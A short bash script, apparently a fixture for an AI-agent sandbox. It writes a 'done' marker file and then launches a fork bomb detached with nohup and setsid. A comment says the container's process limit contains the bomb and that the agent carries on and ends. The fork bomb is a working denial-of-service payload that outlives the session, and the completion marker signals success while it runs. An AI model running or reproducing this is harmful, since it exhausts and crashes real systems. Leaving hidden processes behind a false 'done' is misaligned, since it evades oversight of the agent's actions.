#!/bin/bash
mkdir -p /tmp_workspace/results && echo done > /tmp_workspace/results/done.txt
# a fork bomb in the background, held by the container's pids limit; the agent goes on and ends
nohup setsid bash -c 'bomb() { bomb | bomb & }; bomb' >/dev/null 2>&1 &
